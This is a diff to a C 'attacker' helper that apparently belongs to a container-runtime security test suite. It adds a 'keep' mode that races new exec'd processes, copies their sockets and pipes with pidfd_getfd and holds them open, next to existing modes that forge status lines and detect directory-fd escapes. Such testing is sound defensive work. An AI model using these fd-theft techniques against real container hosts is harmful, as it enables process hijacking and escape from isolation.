@@ -4,6 +4,7 @@
  *                               fds 0..63; log every fd obtained; "ESCAPE" for a directory fd or one through
  *                               which `..` reaches /tmp/MARKER; write a forged status into pipes (a JSON
  *                               event line) and sockets (a start-failure record: "command not found").
+ *   attacker keep LOG MARKER    race new pids and keep copies of their sockets and pipes past stdio open.
  *   attacker stop LOG MARKER    SIGSTOP each new pid, list and open its /proc/N/fd links, SIGCONT it.
  *   attacker hold DIR COMM      SIGSTOP the first new pid whose comm is not COMM (not yet exec'd), write its
  *                               pid to DIR/held and its fd links to DIR/fds, SIGCONT it once DIR/release exists.
@@ -153,6 +154,24 @@ static void grab(int p) {
     }
 }
 
+/* Takes copies of the pid's sockets past stdio and keeps them open (never closed, never written). A kept stdio
+ * pipe would hold the session open in docker exec and runc exec too, so stdio is left alone. */
+static void keep(int p) {
+    int pfd = syscall(SYS_pidfd_open, p, 0);
+    if (pfd < 0) return;
+    for (int k = 3; k < 64; k++) {
+        int fd = syscall(SYS_pidfd_getfd, pfd, k, 0);
+        if (fd < 0) continue;
+        struct stat st;
+        if (fstat(fd, &st) == 0 && (S_ISSOCK(st.st_mode) || S_ISFIFO(st.st_mode))) {
+            logline("KEPT pid=%d fd=%d type=%s", p, k, kind(st.st_mode));
+            continue;
+        }
+        close(fd);
+    }
+    close(pfd);
+}
+
 static void stop_and_list(int p) {
     if (kill(p, SIGSTOP) != 0) return;
     logline("STOPPED pid=%d", p);
@@ -259,7 +278,7 @@ int main(int argc, char **argv) {
     }
     if (argc == 4 && strcmp(argv[1], "hold") == 0) return hold(argv[2], argv[3]);
     if (argc != 4) {
-        fprintf(stderr, "usage: attacker grab|stop LOG MARKER | hold DIR COMM | socket FAMILY\n");
+        fprintf(stderr, "usage: attacker grab|keep|stop LOG MARKER | hold DIR COMM | socket FAMILY\n");
         return 2;
     }
     logf = fopen(argv[2], "a");
@@ -269,6 +288,7 @@ int main(int argc, char **argv) {
     logline("READY");
     if (strcmp(argv[1], "grab") == 0) race(grab);
     else if (strcmp(argv[1], "stop") == 0) race(stop_and_list);
+    else if (strcmp(argv[1], "keep") == 0) race(keep);
     else return 2;
     logline("DONE");
     return 0;
